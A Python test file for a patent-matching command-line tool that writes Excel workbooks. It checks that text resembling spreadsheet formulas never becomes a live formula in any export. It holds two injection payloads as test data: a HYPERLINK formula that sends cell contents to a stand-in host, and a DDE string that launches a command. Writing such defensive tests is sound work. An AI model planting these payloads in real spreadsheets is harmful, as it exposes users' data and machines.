"""Texts that a spreadsheet would take for formulas: in no workbook that a command writes are they any."""

from __future__ import annotations

import re
import zipfile
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest
from typer.testing import CliRunner

from api.cli.app import app
from matcher.domain import Assessment, Prospect, Transaction, TransactionKind
from matcher.events import Event
from matcher.settings import Settings
from matcher.workspace import Workspace
from tests.api.conftest import BEARING, ENTERPRISE, MEMBRANE, NEEDS, overwrite

EVIL = '=HYPERLINK("http://evil.example/"&A1,"点我")'
DDE = "@SUM(1)*cmd|'/C calc'!A0"
DAY = ["--as-of", "2026-06-30"]
COMMANDS = (
    *(
        ["list", *DAY, "--event", EVIL, "--preset", preset, "--out", f"{preset}.xlsx"]
        for preset in ("对外版", "内部版")
    ),
    *(["list", *DAY, "--preset", preset, "--out", f"{preset}.xlsx"] for preset in ("企业版", "高校版")),
    ["event", "build", "HD001", "--by", "甲", *DAY],
    ["event", "move", "HD001", "审核", "--by", "甲"],
    ["event", "publish", "HD001", "--by", "乙"],
    ["event", "export", "HD001", "--preset", "内部版", "--out", "活动.xlsx"],
    ["event", "check", "HD001", *DAY, "--out", "核验.xlsx"],
    ["event", "schedule", "HD001", "--slot", "09:00-12:00", "--out", "日程.xlsx"],
    ["event", "documents", "HD001", "--out", "会务"],
    ["inventory", "split", "盘点", *DAY],
    ["inventory", "list", "--out", "清册.xlsx"],
    ["tiers", *DAY, "--out", "分层.xlsx"],
    ["progress", *DAY, "--out", "进展.xlsx"],
    ["export", "--format", "盘点", "--out", "上报.xlsx", "--partial", *DAY],
    ["export", "--format", "企业评价", "--out", "上报评价.xlsx", "--partial", *DAY],
    ["diagnose", "--out", "诊断.xlsx"],
    ["unmet", *DAY, "--out", "线索.xlsx", "--handout", "线索高校.xlsx"],
    ["assessments", "summary", *DAY, "--out", "汇总.xlsx"],
    ["assigned", *DAY, "--out", "分派.xlsx"],
)


@pytest.fixture
def hostile(filled: Settings) -> Settings:
    patent = replace(
        MEMBRANE, title=EVIL, abstract=f"{DDE}{MEMBRANE.abstract}", inventors=(EVIL,), contact=DDE
    )
    need = replace(
        NEEDS[0], title=EVIL, description=f"{DDE}{NEEDS[0].description}", enterprise=DDE, industry=EVIL
    )
    firm = replace(ENTERPRISE, name=DDE, focus_areas=(EVIL,), contact=EVIL)
    said = Assessment("P1", MEMBRANE.id, ENTERPRISE.id, DDE, Prospect.GOOD, EVIL, on=date(2026, 5, 2))
    deal = Transaction("T1", MEMBRANE.id, TransactionKind.ORDINARY_LICENCE, date(2026, 1, 2), EVIL, DDE)
    overwrite(filled, patent, need, firm, said, deal, replace(BEARING, id="CN2", title=DDE))
    with Workspace.open(filled) as workspace:
        workspace.store.roadshows.add(Event("HD001", EVIL, date(2026, 9, 1), place=DDE, organiser=EVIL))
    return filled


def test_no_cell_is_a_formula(hostile: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    for command in COMMANDS:
        done = CliRunner().invoke(app, [*command, "--home", str(hostile.home)])
        assert done.exit_code == 0, (command, done.output, done.exception)
    books = sorted(path for path in tmp_path.rglob("*.xlsx") if hostile.home not in path.parents)
    assert len(books) >= len(COMMANDS)
    shown = 0
    for book in books:
        with zipfile.ZipFile(book) as archive:
            for name in archive.namelist():
                text = archive.read(name).decode("utf-8", "replace")
                shown += "evil.example" in text
                if name.startswith("xl/worksheets/"):
                    assert not re.search(r"<f[ >]|hyperlink", text), (book.name, name)
                assert "externalLink" not in name, (book.name, name)
    assert shown > 5
